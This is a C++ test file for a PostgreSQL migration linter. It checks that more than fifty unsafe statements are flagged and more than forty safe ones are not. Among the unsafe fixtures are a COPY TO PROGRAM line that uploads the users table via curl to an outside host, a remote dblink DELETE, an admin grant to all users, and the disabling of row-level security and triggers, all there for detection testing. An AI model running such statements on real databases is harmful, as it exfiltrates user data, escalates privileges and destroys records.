#include "migrate/lint/lint.h"
#include "support/catch.h"
#include <algorithm>
#include <set>

using namespace fairlead;
using namespace fairlead::migrate;
using lint::Options;

// Statements as projects write them, each on tables that serve: those that hurt, each in its own way, and those that
// don't. What is said of every migration (time-outs, a way back) doesn't count.
namespace {

struct Unsafe {
    std::string_view sql, rule; // that tells it, among others; empty: known to be silent
};
constexpr Unsafe unsafe[] = {
    // what takes a lock for as long as the table is big
    {"CREATE INDEX orders_total ON orders (total);", "mig-index-concurrently"},
    {"ALTER TABLE orders ADD CONSTRAINT positive CHECK (total >= 0);", "mig-constraint-not-valid"},
    {"ALTER TABLE orders ADD COLUMN rate int DEFAULT 0 CHECK (rate BETWEEN 0 AND 100);", "mig-constraint-not-valid"},
    {"ALTER TABLE orders ADD CONSTRAINT of_user FOREIGN KEY (user_id) REFERENCES users (id);", "mig-add-fk"},
    {"ALTER TABLE rooms ADD CONSTRAINT one_guest EXCLUDE USING gist (room WITH =, during WITH &&);",
     "mig-add-exclusion"},
    {"ALTER TABLE users ADD CONSTRAINT one_mail UNIQUE (mail);", "mig-add-unique"},
    {"ALTER TABLE events ADD PRIMARY KEY (id);", "mig-add-primary-key"},
    {"ALTER TABLE orders ALTER COLUMN note SET NOT NULL;", "mig-set-not-null"},
    {"ALTER TABLE orders ALTER COLUMN id TYPE bigint;", "mig-change-type"},
    {"ALTER TABLE orders ADD COLUMN token uuid DEFAULT gen_random_uuid();", "mig-add-column-volatile-default"},
    {"ALTER TABLE orders ADD COLUMN gross numeric GENERATED ALWAYS AS (net * 1.2) STORED;",
     "mig-add-column-volatile-default"},
    {"ALTER TABLE orders ADD COLUMN number bigserial;", "mig-add-column-volatile-default"},
    {"ALTER TABLE sessions SET LOGGED;", "mig-rewrite-table"},
    {"ALTER TABLE imports SET UNLOGGED;", "mig-rewrite-table"},
    {"ALTER TABLE events SET TABLESPACE slow_disks;", "mig-rewrite-table"},
    {"ALTER INDEX events_at SET TABLESPACE slow_disks;", "mig-rewrite-table"},
    {"ALTER TABLE ALL IN TABLESPACE pg_default SET TABLESPACE fast;", "mig-rewrite-table"},
    {"ALTER TABLE events SET ACCESS METHOD columnar;", "mig-rewrite-table"},
    {"-- fairlead: no-transaction\nVACUUM FULL events;", "mig-rewrite-table"},
    {"CLUSTER events USING events_at;", "mig-rewrite-table"},
    {"REINDEX TABLE users;", "mig-reindex-concurrently"},
    {"REFRESH MATERIALIZED VIEW sales_by_day;", "mig-refresh-concurrently"},
    {"ALTER TABLE events ATTACH PARTITION events_2025 FOR VALUES FROM ('2025-01-01') TO ('2026-01-01');",
     "mig-attach-no-check"},
    {"ALTER TABLE events DETACH PARTITION events_2019;", "mig-detach-concurrently"},
    {"ALTER DOMAIN mail_address SET NOT NULL;", "mig-constraint-not-valid"},
    {"LOCK TABLE orders IN ACCESS EXCLUSIVE MODE;", "mig-lock-table"},
    // what the release that serves meets
    {"DROP SCHEMA reporting;", "mig-drop-object"},
    {"DROP SCHEMA legacy CASCADE;", "mig-drop-cascade"},
    {"DROP FUNCTION total_of(int);", "mig-drop-object"},
    {"DROP VIEW active_users CASCADE;", "mig-drop-cascade"},
    {"ALTER TABLE orders DROP COLUMN note CASCADE;", "mig-drop-cascade"},
    {"DROP TYPE mood;", "mig-drop-object"},
    {"ALTER TABLE orders SET SCHEMA archive;", "mig-rename-object"},
    {"ALTER TYPE mood RENAME VALUE 'ok' TO 'fine';", "mig-rename-object"},
    {"ALTER FUNCTION total_of(int) RENAME TO sum_of;", "mig-rename-object"},
    {"ALTER SCHEMA shop RENAME TO store;", "mig-rename-object"},
    {"ALTER TABLE events_2025 INHERIT events;", "mig-breaks-serving"},
    {"ALTER TABLE events_2019 NO INHERIT events;", "mig-breaks-serving"},
    {"ALTER TABLE orders ENABLE ROW LEVEL SECURITY;", "mig-breaks-serving"},
    {"ALTER TABLE orders ALTER COLUMN id DROP IDENTITY;", "mig-breaks-serving"},
    {"CREATE RULE quiet AS ON DELETE TO orders DO INSTEAD NOTHING;", "mig-breaks-serving"},
    {"REVOKE INSERT ON orders FROM shop_app;", "mig-breaks-serving"},
    {"ALTER SEQUENCE orders_id_seq RESTART;", "mig-breaks-serving"},
    // what guards rows, and what takes them
    {"ALTER TABLE orders DISABLE TRIGGER ALL;", "mig-guard-off"},
    {"ALTER TABLE orders DISABLE ROW LEVEL SECURITY;", "mig-guard-off"},
    {"DROP POLICY own_rows ON orders;", "mig-guard-off"},
    {"SET session_replication_role = 'replica';\nINSERT INTO orders (user_id) VALUES (7);", "mig-guard-off"},
    {"UPDATE users SET role = 'admin' WHERE true;", "mig-update-no-where"},
    {"WITH gone AS (UPDATE users SET mail = NULL RETURNING id) SELECT count(*) FROM gone;", "mig-update-no-where"},
    {"DO $$ BEGIN EXECUTE 'ALTER TABLE ' || 'orders' || ' ADD COLUMN b int NOT NULL'; END $$;", "mig-dynamic-sql"},
    {"DO $$ BEGIN DELETE FROM orders WHERE total = 0; END $$;", "mig-dynamic-sql"},
    {"SELECT dblink_exec('dbname=billing', 'DELETE FROM invoices');", "mig-beyond"},
    {"SELECT lo_unlink(scan) FROM documents;", "mig-beyond"},
    {"COPY users TO PROGRAM 'curl -T - https://example.org';", "mig-beyond"},
    {"UPDATE pg_catalog.pg_attribute SET attnotnull = true WHERE attname = 'note';", "mig-beyond"},
    {"ALTER TABLE orders ADD COLUMN extra json;", "mig-json"},
};

constexpr std::string_view safe[] = {
    "CREATE TABLE notes (id bigint GENERATED ALWAYS AS IDENTITY PRIMARY KEY, body text NOT NULL, at timestamptz NOT "
    "NULL "
    "DEFAULT now());\nCREATE INDEX notes_at ON notes (at DESC);",
    "CREATE TABLE IF NOT EXISTS tags (name text PRIMARY KEY);",
    "CREATE TABLE votes (post_id bigint NOT NULL, user_id bigint NOT NULL, score smallint NOT NULL DEFAULT 0, PRIMARY "
    "KEY "
    "(user_id, post_id));",
    "ALTER TABLE users ADD COLUMN locale text;",
    "ALTER TABLE users ADD COLUMN IF NOT EXISTS seen_at timestamptz;",
    "ALTER TABLE site ADD COLUMN captcha boolean NOT NULL DEFAULT false, ADD COLUMN difficulty text NOT NULL DEFAULT "
    "'medium';",
    "ALTER TABLE users ADD COLUMN joined timestamptz NOT NULL DEFAULT now();",
    "ALTER TABLE users ALTER COLUMN theme SET DEFAULT 'dark';",
    "ALTER TABLE users ALTER COLUMN theme DROP DEFAULT;",
    "-- fairlead: no-transaction\nCREATE INDEX CONCURRENTLY IF NOT EXISTS posts_author ON posts (author_id, "
    "published);",
    "-- fairlead: no-transaction\nCREATE UNIQUE INDEX CONCURRENTLY IF NOT EXISTS users_mail ON users (lower(mail)) "
    "WHERE "
    "gone IS NULL;",
    "-- fairlead: no-transaction\nDROP INDEX CONCURRENTLY IF EXISTS posts_old;",
    "-- fairlead: no-transaction\nREINDEX INDEX CONCURRENTLY posts_author;",
    "ALTER TABLE posts ADD CONSTRAINT of_author FOREIGN KEY (author_id) REFERENCES users (id) ON DELETE CASCADE NOT "
    "VALID;\n-- index: CREATE INDEX CONCURRENTLY\n",
    "ALTER TABLE posts VALIDATE CONSTRAINT of_author;",
    "ALTER TABLE posts ADD CONSTRAINT has_title CHECK (title IS NOT NULL) NOT VALID;",
    "ALTER TABLE posts VALIDATE CONSTRAINT has_title;\nALTER TABLE posts ALTER COLUMN title SET NOT NULL;",
    "ALTER TABLE users ADD CONSTRAINT one_mail UNIQUE USING INDEX users_mail;",
    "ALTER TABLE posts DROP CONSTRAINT has_title;",
    "ALTER TABLE posts RENAME CONSTRAINT of_author TO posts_author_fkey;",
    "ALTER INDEX posts_a RENAME TO posts_author;",
    "CREATE TYPE visibility AS ENUM ('public', 'friends', 'nobody');\nALTER TABLE users ADD COLUMN shown visibility "
    "NOT NULL "
    "DEFAULT 'public';",
    "ALTER TYPE visibility ADD VALUE IF NOT EXISTS 'team' AFTER 'friends';",
    "CREATE VIEW active_users AS SELECT id, name FROM users WHERE seen_at > now() - interval '30 days';",
    "DROP VIEW active_users;\nCREATE VIEW active_users AS SELECT id, name, locale FROM users;",
    "CREATE OR REPLACE VIEW active_users AS SELECT id, name FROM users;",
    "CREATE OR REPLACE FUNCTION touch() RETURNS trigger LANGUAGE plpgsql AS $$ BEGIN NEW.updated := now(); RETURN NEW; "
    "END $$;",
    "DROP FUNCTION IF EXISTS hot_rank(numeric, timestamptz);\nCREATE FUNCTION hot_rank(score numeric, published "
    "timestamptz) "
    "RETURNS numeric LANGUAGE sql IMMUTABLE AS $$ SELECT log(greatest(1, score)) $$;",
    "CREATE TRIGGER touch_posts BEFORE UPDATE ON posts FOR EACH ROW EXECUTE FUNCTION touch();",
    "DROP TRIGGER IF EXISTS count_posts ON posts;\nCREATE TRIGGER count_posts AFTER INSERT ON posts FOR EACH ROW "
    "EXECUTE "
    "FUNCTION count_up();",
    "CREATE MATERIALIZED VIEW ranks AS SELECT author_id, count(*) AS n FROM posts GROUP BY 1;\nCREATE UNIQUE INDEX "
    "ranks_author ON ranks (author_id);",
    "REFRESH MATERIALIZED VIEW CONCURRENTLY ranks;",
    "INSERT INTO languages (code, name) VALUES ('de', 'Deutsch'), ('fr', 'Français') ON CONFLICT (code) DO NOTHING;",
    "UPDATE posts SET language = 'und' WHERE language IS NULL AND id BETWEEN 1 AND 10000;",
    "DELETE FROM sessions WHERE expires < now() - interval '90 days';",
    "COMMENT ON COLUMN posts.score IS 'upvotes less downvotes';",
    "GRANT SELECT, INSERT ON posts TO shop_app;",
    "DO $$ BEGIN CREATE TYPE level AS ENUM ('info', 'error'); EXCEPTION WHEN duplicate_object THEN NULL; END $$;",
    "ALTER TABLE events SET (autovacuum_vacuum_scale_factor = 0.02, fillfactor = 80);\nALTER TABLE events ALTER COLUMN "
    "kind "
    "SET STATISTICS 500;",
    "-- fairlead: no-transaction\nALTER TABLE events DETACH PARTITION events_2019 CONCURRENTLY;",
    "CREATE TABLE secrets (id bigint PRIMARY KEY, owner text NOT NULL);\nALTER TABLE secrets ENABLE ROW LEVEL "
    "SECURITY;\n"
    "CREATE POLICY own ON secrets USING (owner = current_user);",
    "ALTER TABLE posts ENABLE ROW LEVEL SECURITY;\nCREATE POLICY everybody ON posts USING (true);",
    "DROP POLICY own ON posts;\nCREATE POLICY own ON posts USING (author_id = 1);",
    "CREATE TYPE role_new AS ENUM ('a', 'b');\nALTER TYPE role RENAME TO role_old;\nALTER TYPE role_new RENAME TO "
    "role;\nDROP "
    "TYPE role_old;",
    "CREATE SEQUENCE invoice_numbers START 1000;\nALTER SEQUENCE invoice_numbers RESTART WITH 5000;",
    "CREATE FUNCTION secret() RETURNS int LANGUAGE sql AS 'SELECT 1';\nREVOKE ALL ON FUNCTION secret() FROM PUBLIC;",
    "SELECT setval('posts_id_seq', (SELECT max(id) FROM posts));",
    "CREATE TABLE events_2027 (id bigint NOT NULL, at timestamptz NOT NULL);\nALTER TABLE events_2027 SET UNLOGGED;",
    "CREATE SCHEMA IF NOT EXISTS audit;",
    "CREATE STATISTICS posts_of_author (dependencies) ON author_id, language FROM posts;",
};

// Of every file, whatever it does.
bool is_general(const std::string& rule) {
    static const std::set<std::string> general{"mig-no-down", "mig-lock-timeout", "mig-statement-timeout", "mig-syntax",
                                               "mig-down-not-inverse"};
    return general.contains(rule);
}

std::vector<report::Finding> told(std::string_view sql) {
    Options options;
    options.today = "2026-01-01";
    auto findings = lint::judge({{"1_a.up.sql", std::string(sql)}}, options);
    std::erase_if(findings, [](const report::Finding& one) { return is_general(one.rule); });
    return findings;
}

}

TEST_CASE("of fifty statements that hurt none is silent") {
    CHECK(std::size(unsafe) >= 50);
    for (const Unsafe& one : unsafe) {
        const auto findings = told(one.sql);
        std::string rules;
        for (const auto& finding : findings) rules += finding.rule + " ";
        INFO(one.sql << ": " << rules);
        CHECK(std::any_of(findings.begin(), findings.end(),
                          [&](const report::Finding& finding) { return finding.rule == one.rule; }));
    }
}

TEST_CASE("of forty statements of real projects that don't hurt none is told") {
    CHECK(std::size(safe) >= 40);
    for (const auto sql : safe) {
        INFO(sql);
        for (const auto& finding : told(sql)) {
            INFO(finding.rule << ": " << finding.message);
            CHECK(finding.severity == report::Severity::info);
        }
    }
}
